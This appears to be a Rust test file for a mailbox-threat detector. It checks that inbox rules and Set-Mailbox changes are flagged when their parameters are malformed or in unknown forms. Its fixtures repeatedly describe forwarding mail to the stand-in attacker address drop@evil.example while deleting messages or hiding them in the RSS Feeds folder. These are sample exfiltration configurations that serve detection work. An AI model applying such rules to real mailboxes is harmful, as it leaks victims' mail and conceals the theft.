//! Parameters and actions in an unknown form are never treated as harmless.

use serde_json::{Value, json};
use tenantwatch::detection::{Answer, LiveMailbox, Question, Severity, judge};

use super::super::fixtures::tenant;
use super::{has, offline, online, outlook_rule, parsed, reasons, record};

fn cmdlet(parameters: &Value) -> Value {
    record("New-InboxRule", &json!({"ObjectId": "grady\\Post", "Parameters": parameters}))
}

#[test]
fn damaged_parameters_are_read() {
    for parameters in [
        json!("Name: Post; ForwardTo: drop@evil.example; DeleteMessage: True"),
        json!("Name=Post | ForwardTo=drop@evil.example | DeleteMessage=True"),
        json!([
            "@{Name=Name; Value=Post}",
            "@{Name=ForwardTo; Value=drop@evil.example}",
            "@{Name=DeleteMessage; Value=True}"
        ]),
        json!("@{Name=ForwardTo; Value=drop@evil.example} @{Name=DeleteMessage; Value=True}"),
        json!({"Name": "Post", "ForwardTo": "drop@evil.example", "DeleteMessage": true}),
        json!([{"ForwardTo": "drop@evil.example"}, {"DeleteMessage": "True"}]),
        json!(
            "[{\"Name\":\"ForwardTo\",\"Value\":\"drop@evil.example\"},{\"Name\":\"DeleteMessage\",\"Value\":\"True\"}]"
        ),
        json!("-Name Post -ForwardTo drop@evil.example -DeleteMessage $true"),
    ] {
        let found = offline(&cmdlet(&parameters));
        assert!(
            has(&found, "ForwardsExternally") && has(&found, "DeletesMessages"),
            "{parameters}: {:?}",
            reasons(&found)
        );
        assert_eq!(found.outside_targets, ["drop@evil.example"], "{parameters}");
    }
}

#[test]
fn parameters_in_an_unknown_form_are_not_harmless() {
    for parameters in [
        json!("forward everything to drop@evil.example"),
        json!(["ForwardTo drop@evil.example"]),
        json!([{"Value": "Redirect: drop@evil.example"}]),
        json!([{"Name": "ForwardToEx", "Value": "drop@evil.example"}]),
    ] {
        let found = offline(&cmdlet(&parameters));
        assert!(
            has(&found, "ContentNotVisible") && has(&found, "TargetUnresolved"),
            "{parameters}: {:?}",
            reasons(&found)
        );
        assert!(found.severity == Severity::Medium && !has(&found, "AppliesToAllMail"), "{parameters}");
        assert!(found.outside_targets.is_empty(), "nothing is proven: {parameters}");
    }
    for parameters in [json!("System.Object[]"), json!([7]), json!(["a sound is played"])] {
        let found = offline(&cmdlet(&parameters));
        assert_eq!((reasons(&found), found.severity), (vec!["ContentNotVisible"], Severity::Low), "{parameters}");
    }
    let blob = cmdlet(
        &json!([{"Name": "AlwaysDeleteOutlookRulesBlob", "Value": "True"}, {"Name": "From", "Value": "x@y.example"}]),
    );
    assert_eq!(reasons(&offline(&blob)), Vec::<&str>::new());
}

#[test]
fn actions_in_an_unknown_form_are_not_harmless() {
    let narrow = "{(SubString IgnoreCase(SubjectProperty)=Alpha)}";
    for (actions, severity) in [
        ("Forward to drop@evil.example", Severity::Medium),
        ("Delete the message", Severity::Medium),
        (r#"["redirect to drop@evil.example"]"#, Severity::Medium),
        (r#"{"Do":{"forwardTo":["drop@evil.example"]}}"#, Severity::Medium),
        ("Move to a folder", Severity::Low),
        ("Play a sound", Severity::Low),
        (r#"[{"ActionType":"Sparkle"}]"#, Severity::Low),
    ] {
        let found = offline(&outlook_rule("Post", narrow, actions));
        assert_eq!(found.severity, severity, "{actions}: {:?}", reasons(&found));
        assert_eq!(
            has(&found, "ContentNotVisible"),
            !actions.contains("ActionType"),
            "{actions}: {:?}",
            reasons(&found)
        );
    }
}

#[test]
fn actions_in_known_forms_are_read() {
    let narrow = "{(SubString IgnoreCase(SubjectProperty)=Alpha)}";
    for actions in [
        r#"{"ForwardTo":"drop@evil.example"}"#,
        r#"[{"RedirectTo":["drop@evil.example"]}]"#,
        r#"[{"ActionType":"Forward","Recipients":["drop@evil.example"],"ForwardFlags":"None"}]"#,
        "@{ActionType=Forward; Recipients=drop@evil.example; ForwardFlags=None}",
        "ActionType: Forward; Recipients: drop@evil.example",
    ] {
        let found = offline(&outlook_rule("Post", narrow, actions));
        assert!(
            has(&found, "ForwardsExternally") && !has(&found, "ContentNotVisible"),
            "{actions}: {:?}",
            reasons(&found)
        );
    }
}

#[test]
fn unread_mailbox_forwarding_is_not_harmless() {
    let members = json!({"ObjectId": "grady", "Parameters": "forwards to drop@evil.example"});
    let found = offline(&record("Set-Mailbox", &members));
    assert!(found.threat && has(&found, "ContentNotVisible"), "{:?}", reasons(&found));
    let members =
        json!({"ObjectId": "grady", "Parameters": ["@{Name=ForwardingSmtpAddress; Value=smtp:drop@evil.example}"]});
    assert!(has(&offline(&record("Set-Mailbox", &members)), "MailboxForwardsExternally"));
}

#[test]
fn prefilter_skips_no_damaged_record_that_forwards() {
    for parameters in [
        json!(["@{Name=ForwardingSmtpAddress; Value=smtp:drop@evil.example}"]),
        json!(["forwardingsmtpaddress=drop@evil.example | DeliverToMailboxAndForward=True"]),
        json!(["Identity: grady; ForwardingSmtpAddress: smtp:drop@evil.example"]),
    ] {
        let mut members = json!({"ObjectId": "grady", "UserType": 3, "OrganizationName": "contoso.onmicrosoft.com"});
        members["Parameters"] = parameters;
        let record = record("Set-Mailbox", &members);
        let mut known = tenant();
        known.offline = true;
        assert!(judge(&parsed(&record), &known).is_some_and(|found| found.threat), "{record}");
        assert!(tenantwatch::detection::system_noise(record.to_string().as_bytes()).is_none(), "{record}");
    }
}

#[test]
fn values_that_are_lists_or_objects_are_read() {
    for value in [
        json!(["drop@evil.example"]),
        json!("[\"drop@evil.example\"]"),
        json!([{"Address": "drop@evil.example"}]),
        json!({"DisplayName": "anna@contoso.com", "Address": "drop@evil.example"}),
    ] {
        let found = offline(&cmdlet(&json!([{"Name": "ForwardTo", "Value": value}])));
        assert_eq!(found.outside_targets, ["drop@evil.example"], "{value}: {:?}", reasons(&found));
    }
    let moved = cmdlet(
        &json!([{"Name": "MoveToFolder", "Value": [":\\RSS Feeds"]}, {"Name": "MarkAsRead", "Value": ["False"]}]),
    );
    let found = offline(&moved);
    assert!(has(&found, "HidesInFolder") && !has(&found, "MarksAsRead"), "{:?}", reasons(&found));
    let unknown = offline(&cmdlet(&json!([{"Name": "ForwardTo", "Value": {"Key": 5}}])));
    assert!(has(&unknown, "TargetUnresolved"), "{:?}", reasons(&unknown));
}

#[test]
fn a_new_rule_without_parameters_is_not_visible() {
    for members in [json!({}), json!({"Parameters": null}), json!({"Parameters": []}), json!({"Parameters": ""})] {
        let mut members = members;
        members["ObjectId"] = "grady\\Post".into();
        let found = offline(&record("New-InboxRule", &members));
        assert!(
            has(&found, "ContentNotVisible") && !has(&found, "AppliesToAllMail"),
            "{members}: {:?}",
            reasons(&found)
        );
    }
}

#[test]
fn recipients_of_a_current_rule_may_be_objects() {
    let row =
        json!({"Name": "Post", "RuleIdentity": 200, "Enabled": true, "RedirectTo": [{"Address": "drop@evil.example"}]});
    let live = LiveMailbox {
        visible: serde_json::from_value(json!([row])).unwrap(),
        all: serde_json::from_value(json!([row])).unwrap(),
        sweep: Vec::new(),
    };
    let found = online(&cmdlet(&json!([{"Name": "Name", "Value": "Post"}])), |question, known| {
        if let Question::LiveRules(owner) = question {
            known.live.insert(owner.clone(), Answer::Known(live.clone()));
        }
    });
    assert_eq!(found.outside_targets, ["drop@evil.example"], "{:?}", reasons(&found));
}
